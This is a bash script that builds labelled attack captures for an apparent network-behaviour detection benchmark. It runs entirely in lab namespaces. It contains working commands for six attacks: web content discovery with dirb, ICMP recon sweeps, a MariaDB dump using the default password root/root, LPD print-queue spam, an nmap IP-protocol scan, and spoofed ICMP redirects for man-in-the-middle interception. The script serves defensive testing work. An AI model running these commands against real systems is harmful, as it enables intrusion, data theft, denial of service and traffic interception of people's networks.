#!/usr/bin/env bash
# A TWENTY-FIFTH fresh attack set ("f25-*"): the compromised device turned against its LAN neighbours with the
# ordinary tools an intruder brings: web content discovery, ICMP and IP-protocol recon, a database dump, print-queue
# abuse and ICMP redirects. Made with real packaged tools between network namespaces (no helper program).
#   f25-dirb-webadmin-lan      web content discovery of a neighbour's web admin (dirb 2.22, common.txt: ~4,600
#                              paths over tcp/80 of one neighbour, nearly all 404s) against nginx
#   f25-icmp-ts-mask-sweep-lan ICMP recon of the LAN: an nmap host sweep of the /24 by ICMP timestamp and
#                              address-mask requests only (-PP -PM, no echo, no ARP ping), then hping3 timestamp
#                              and address-mask requests to each host that answered (their clocks and netmasks)
#   f25-mysqldump-lan          a neighbour's MariaDB dumped over the LAN with a default password (mariadb -e 'SHOW
#                              DATABASES' and its tables, then mysqldump of every database, 18-24 s apart: ~4.9 MB)
#   f25-lpd-print-spam-lan     LPD print-queue abuse (RFC 1179, tcp/515): two neighbours' lpd queues listed (rlpq),
#                              30 junk jobs sent to them (rlpr, from privileged source ports), the queues listed again
#   f25-ip-proto-scan-lan      an IP-protocol scan (nmap -sO --data-length 16) of four neighbours: every IP protocol
#                              number 0-255, answered by ICMP protocol unreachables (what a neighbour's stack speaks:
#                              GRE, SCTP, ...); the neighbours rate-limit their unreachables, so nmap slows and the
#                              capture's timeout (110 s) ends it before it is done
#   f25-icmp-redirect-mitm-lan ICMP redirects spoofed from the LAN's router (hping3 -C 5 -a ROUTER --icmp-gw DEVICE)
#                              telling four neighbours to reach an internet address through the device, which then
#                              forwards their traffic (ip_forward on; the neighbours accept redirects)
# Left out as used before (bench/behavior/README.md, f25): an SMB share copy-out (smbclient get: gen-attacks.sh's
# lat-smbclient-list), an rsync daemon (fr-exfil-rsync-daemon), TFTP (f3-tftp-dropper, f9-tftp-exfil-put), SNMP SET
# (f8-snmp-extend-rce), a SYN flood (fr-dos-hping-synflood), an NFS export (f13-nfs-exfil-wan's nfs-ganesha and
# libnfs, f18-portmap-reflector's rpcbind).
# The lab is fresh-lab.sh's (device 10.66.0.10, victim 10.66.0.20 = the router to the "internet", dummies .31-.34,
# a routed "internet" 10.128.0.0/9 behind the victim), namespaces f25-*, veths f25p-*. Internet hosts are /32
# addresses on the victim's lo (10.128.127.x). Each id's servers are started before its capture and stopped after.
# Every tool runs under `timeout`, every loop is bounded; namespaces are removed on exit. The device is always the
# lab's attacker namespace (role attacker).
#
# Tools (Debian): dirb nginx nmap hping3 mariadb-server mariadb-client lpr (lpd) rlpr iproute2 iputils-ping tcpdump
#   wireshark-common bc util-linux (unshare)
#
# Usage: bash bench/behavior/fresh25/gen-fresh25.sh [--out DIR (default /work/behavior-bench-fresh25)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh25
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f25 GEN=gen-fresh25
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

lab_network
lab_tls_cert nvr-admin.lan   # nginx_conf's server block names a certificate (the web admin is plain HTTP)
victim_arp_names_lan
sleep 1

# ---------- "internet" hosts ----------
# .127.2 the address the neighbours ping (the redirect id's destination)
internet_hosts 10.128.127.2
export NET VIC_IP ATT_IP W PY HERE LAB

# ---------- 1. web content discovery of a neighbour's web admin (dirb) ----------
if want f25-dirb-webadmin-lan; then
  NGINX_SERVER_NAME=nvr-admin.lan
  nginx_conf webadmin "    listen $NET.31:80;" <<'EOF'
    location / { index index.html; }
    location /backup/ { autoindex on; }
EOF
  D="$W/nginx-webadmin/www"
  mkdir -p "$D/admin" "$D/backup" "$D/cgi-bin" "$D/images" "$D/js" "$D/css" "$D/config"
  printf '%s\n' '<html><head><title>NVR Web Admin</title></head><body><form action="/login.cgi">user <input name=u>' \
    '</form></body></html>' > "$D/index.html"
  cp "$D/index.html" "$D/admin/index.html"; cp "$D/index.html" "$D/login.html"
  printf 'User-agent: *\nDisallow: /backup/\nDisallow: /config/\n' > "$D/robots.txt"
  head -c 30000 /dev/urandom | base64 > "$D/backup/nvr-config-2026.tar.b64"
  printf '[device]\nadmin_password=Nvr!2024\n' > "$D/config/index.html"
  srv d31 150 nginx -c "$W/nginx-webadmin/nginx.conf" -g "daemon off;"
  NG_PID=$BG
  wait_tcp d31 "$NET.31" 80
  CAP_VIC_IP=$NET.31 CAP_VIC_MAC=02:66:00:00:00:31 cap f25-dirb-webadmin-lan scan dirb-common-wordlist \
    attacker lan false 100 dirb "http://$NET.31/" /usr/share/dirb/wordlists/common.txt -S -r -z 12
  stopbg "$NG_PID"; kill_in d31 nginx
  echo "dirb: $(grep -c '^+ \|DIRECTORY' "$W/f25-dirb-webadmin-lan.out" 2>/dev/null) found," \
    "requests $(wc -l < "$W/nginx-webadmin/access.log" 2>/dev/null)" >&2
fi

# ---------- 2. ICMP recon of the LAN: timestamp and address-mask sweeps (nmap -PP -PM), then clocks (hping3) ----------
if want f25-icmp-ts-mask-sweep-lan; then
  cat > "$W/icmpsweep.sh" <<'EOS'
# the device: a host sweep of the /24 by ICMP timestamp and address-mask requests only (no echo, no ARP ping; on a
# LAN nmap still resolves each address by ARP before its ICMP probes, and a host that answers the first probe gets
# no second), at most 30 probes a second; then, to each host that answered, 4 timestamp requests (its clock) and 2
# address-mask requests (its netmask), 1 s apart
timeout 85 nmap -n -sn -PP -PM --disable-arp-ping --max-rate 30 --max-retries 1 -oG "$W/icmp-up" \
  10.66.0.0/24 >/dev/null 2>&1 || true
sleep 4
for h in $(awk '/Status: Up/{print $2}' "$W/icmp-up" | grep -v '^10.66.0.10$'); do
  timeout 10 hping3 -q --icmp-ts -c 4 -i 1 "$h" >/dev/null 2>&1 || true
  timeout 6 hping3 -q --icmp-addr -c 2 -i 1 "$h" >/dev/null 2>&1 || true
  sleep 1
done
EOS
  CAP_VIC_IP=$NET.32 CAP_VIC_MAC=02:66:00:00:00:32 cap f25-icmp-ts-mask-sweep-lan recon nmap-PP-PM+hping3-icmp-ts \
    attacker lan false 110 bash "$W/icmpsweep.sh"
  echo "icmp sweep: up $(grep -c 'Status: Up' "$W/icmp-up" 2>/dev/null)" >&2
fi

# ---------- 3. a neighbour's MariaDB dumped with a default password (mysql, mysqldump) ----------
if want f25-mysqldump-lan; then
  rm -rf "$W/mysql"; mkdir -p "$W/mysql"
  timeout 120 mariadb-install-db --no-defaults --datadir="$W/mysql" --user=root \
    --auth-root-authentication-method=socket --skip-test-db >"$W/mysql-install.log" 2>&1
  printf '%s\n' "CREATE USER 'root'@'%' IDENTIFIED BY 'root';" "GRANT ALL ON *.* TO 'root'@'%';" \
    > "$W/mysql-init.sql"
  srv d33 170 /usr/sbin/mariadbd --no-defaults --datadir="$W/mysql" --user=root --bind-address=$NET.33 --port=3306 \
    --socket="$W/mysql.sock" --pid-file="$W/mysql.pid" --skip-name-resolve --init-file="$W/mysql-init.sql" \
    --log-error="$W/mysql/mysql.err"
  DB_PID=$BG
  for i in $(seq 1 30); do ns d33 bash -c "exec 3<>/dev/tcp/$NET.33/3306" 2>/dev/null && break; sleep 1; done
  # the neighbour's data: a plant-history table (30,000 rows, ~3 MB) and a users table, loaded over its socket
  {
    echo "CREATE DATABASE plant_hist; USE plant_hist;"
    echo "CREATE TABLE readings (id INT PRIMARY KEY, ts DATETIME, tag VARCHAR(40), value DOUBLE, note VARCHAR(64));"
    awk 'BEGIN { srand(25); for (b = 0; b < 60; b++) { printf "INSERT INTO readings VALUES ";
      for (i = 0; i < 500; i++) { n = b * 500 + i; printf "%s(%d,FROM_UNIXTIME(%d),\"PLC%02d.AI%03d\",%.4f,\"%s\")",
        (i ? "," : ""), n, 1796000000 + n * 10, n % 17, n % 113, rand() * 1000,
        substr("ok-ok-ok-alarm-hi-lo-ok-maint", 1 + int(rand() * 20), 8) }
      print ";" } }'
    echo "CREATE TABLE operators (id INT, login VARCHAR(32), pw_hash CHAR(64), role VARCHAR(16));"
    for i in $(seq 1 40); do echo "INSERT INTO operators VALUES ($i,'op$i',SHA2('pw$i',256),'operator');"; done
  } > "$W/plant.sql"
  ns d33 timeout 60 mariadb --no-defaults -S "$W/mysql.sock" -u root < "$W/plant.sql"
  cat > "$W/dbdump.sh" <<'EOS'
# the device: logs in with the default password, lists the databases and their tables, then dumps each database,
# 18-24 s apart
M="mariadb --no-defaults -h 10.66.0.33 -u root -proot"
timeout 10 $M -e 'SELECT VERSION(); SHOW DATABASES;' > "$W/db-list" 2>&1 || true
sleep 6
timeout 10 $M -e "SELECT table_schema, table_name, table_rows FROM information_schema.tables WHERE table_schema NOT IN
  ('information_schema', 'performance_schema')" > "$W/db-tables" 2>&1 || true
sleep 8
for db in $(grep -vE 'VERSION|^[0-9]|Database|information_schema|performance_schema' "$W/db-list"); do
  timeout 30 mysqldump --no-defaults -h 10.66.0.33 -u root -proot --single-transaction "$db" > "$W/dump-$db.sql" \
    2>>"$W/dump.err" || true
  sleep $((18 + RANDOM % 7))
done
EOS
  CAP_VIC_IP=$NET.33 CAP_VIC_MAC=02:66:00:00:00:33 cap f25-mysqldump-lan lateral mariadb-client-mysqldump \
    attacker lan false 100 bash "$W/dbdump.sh"
  stopbg "$DB_PID"; kill_in d33 mariadbd
  echo "mysqldump: $(ls -l "$W"/dump-*.sql 2>/dev/null | awk '{printf "%s=%s ", $9, $5}')" >&2
fi

# ---------- 4. LPD print-queue abuse of two neighbours (rlpq, rlpr to tcp/515) ----------
if want f25-lpd-print-spam-lan; then
  LP_PIDS=()
  for d in 32 34; do
    L="$W/lpd-$d"; rm -rf "$L"; mkdir -p "$L/spool/lp" "$L/run" "$L/etc-up" "$L/etc-wk"
    chown -R lp:lp "$L/spool"; chmod -R 2775 "$L/spool"
    printf 'lp|office:\\\n\t:lp=/dev/null:sd=/var/spool/lpd/lp:mx#0:sh:\n' > "$L/etc-up/printcap"
    printf '%s\n' cam-10.lan cam-10 gw.lan gw 10.66.0.10 10.66.0.20 > "$L/etc-up/hosts.lpd"
    printf '127.0.0.1 localhost\n10.66.0.%s prn-%s.lan prn-%s\n10.66.0.10 cam-10.lan cam-10\n10.66.0.20 gw.lan gw\n' \
      "$d" "$d" "$d" > "$L/etc-up/hosts"
    # lpd in a private mount namespace: an overlay over /etc (its printcap, hosts.lpd, hosts), its spool and run
    # folder bound over the machine's
    ip netns exec "$LAB-d$d" timeout 160 unshare -m sh -c "mount --make-rprivate / && \
      mount -t overlay overlay -o lowerdir=/etc,upperdir='$L/etc-up',workdir='$L/etc-wk' /etc && \
      mount --bind '$L/spool' /var/spool/lpd && mount --bind '$L/run' /run && \
      /usr/sbin/lpd -l -b 10.66.0.$d && sleep 150" >>"$W/bg-d$d.log" 2>&1 &
    LP_PIDS+=($!); PIDS+=($!)
  done
  sleep 2
  wait_tcp d32 "$NET.32" 515; wait_tcp d34 "$NET.34" 515
  mkdir -p "$W/lpjobs"
  for i in $(seq 1 30); do
    { printf '\033%%-12345X@PJL JOB NAME="INVOICE-%04d"\r\n' "$i"
      head -c $((30000 + (i * 7919) % 40000)) /dev/urandom | base64; } > "$W/lpjobs/job$i.prn"
  done
  cat > "$W/lpd.sh" <<'EOS'
# the device: lists both neighbours' queues, then 30 junk jobs alternating between them, 1-3 s apart, and lists the
# queues again (rlpr and rlpq connect from privileged source ports, as RFC 1179 asks)
for h in 10.66.0.32 10.66.0.34; do timeout 10 rlpq -H "$h" -P lp -l || true; done
sleep 3
for i in $(seq 1 30); do
  [ $SECONDS -lt 85 ] || break
  h=10.66.0.32; [ $((i % 2)) = 0 ] && h=10.66.0.34
  timeout 15 rlpr -H "$h" -P lp -J "INVOICE-$i" "$W/lpjobs/job$i.prn" || true
  sleep $((1 + RANDOM % 3))
done
for h in 10.66.0.32 10.66.0.34; do timeout 10 rlpq -H "$h" -P lp || true; done
EOS
  CAP_VIC_IP=$NET.32 CAP_VIC_MAC=02:66:00:00:00:32 cap f25-lpd-print-spam-lan dos rlpr+lpd-rfc1179 \
    attacker lan false 100 bash "$W/lpd.sh"
  for p in "${LP_PIDS[@]}"; do stopbg "$p"; done
  kill_in d32 lpd; kill_in d34 lpd; kill_in d32 sleep; kill_in d34 sleep
  echo "lpd: $(grep -c 'rlpr' "$W/f25-lpd-print-spam-lan.out" 2>/dev/null) rlpr messages;" \
    "spooled $(find "$W"/lpd-3?/spool -type f -name 'df*' 2>/dev/null | wc -l)" >&2
fi

# ---------- 5. an IP-protocol scan of four neighbours (nmap -sO) ----------
# --data-length 16: nmap's own probes for most protocols are bare IPv4 headers, which the injector's tcprewrite
# --fixcsum refuses ("length of data must be > 0"); 16 random bytes after each header (an option scanners use to
# look less like nmap) let them be built
if want f25-ip-proto-scan-lan; then
  CAP_VIC_IP=$NET.31 CAP_VIC_MAC=02:66:00:00:00:31 cap f25-ip-proto-scan-lan scan nmap-sO-ip-protocol \
    attacker lan false 110 nmap -n -Pn -sO --data-length 16 --max-rate 14 --max-retries 1 -oN "$W/ipproto.txt" \
    "$NET.20" "$NET.31" "$NET.33" "$NET.34"
fi

# ---------- 6. ICMP redirects spoofed from the router: the neighbours' traffic through the device ----------
if want f25-icmp-redirect-mitm-lan; then
  # the neighbours: the router (the victim, .20) is their way to the "internet"; like many embedded stacks they take
  # redirects to any on-link gateway (secure_redirects off); each pings an internet address once a second
  RP=()
  for d in 31 32 33 34; do
    ns "d$d" ip route replace "$WAN" via "$VIC_IP"
    ns "d$d" sysctl -qw net.ipv4.conf.all.accept_redirects=1 net.ipv4.conf.eth0.accept_redirects=1 \
      net.ipv4.conf.all.secure_redirects=0 net.ipv4.conf.eth0.secure_redirects=0
    srv "d$d" 125 ping -n -q -i 1 -s 56 10.128.127.2
    RP+=("$BG")
  done
  sleep 5
  cat > "$W/redirect.sh" <<'EOS'
# the device: forwarding on (its own redirects off), then every 12-16 s a host redirect (type 5 code 1) to each
# neighbour, spoofed from the router, for the internet address they ping: "reach 10.128.127.2 through 10.66.0.10";
# the embedded datagram is the neighbour's own echo request to it
sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
sleep 4
for r in 1 2 3 4 5 6; do
  [ $SECONDS -lt 85 ] || break
  for d in 31 32 33 34; do
    timeout 5 hping3 -q -1 -C 5 -K 1 -a 10.66.0.20 --icmp-gw 10.66.0.10 --icmp-ipsrc 10.66.0.$d \
      --icmp-ipdst 10.128.127.2 --icmp-ipproto 1 -c 1 10.66.0.$d >/dev/null 2>&1 || true
    sleep 0.5
  done
  sleep $((12 + RANDOM % 5))
done
sleep 5
sysctl -qw net.ipv4.ip_forward=0
EOS
  CAP_VIC_IP=$NET.31 CAP_VIC_MAC=02:66:00:00:00:31 cap f25-icmp-redirect-mitm-lan mitm hping3-icmp-redirect+ip-forward \
    attacker lan false 100 bash "$W/redirect.sh"
  for d in 31 32 33 34; do echo "redirect d$d: $(ns "d$d" ip route get 10.128.127.2 | head -1)" >&2; done
  for p in "${RP[@]}"; do stopbg "$p"; done
  ns att sysctl -qw net.ipv4.ip_forward=0
fi

lab_index
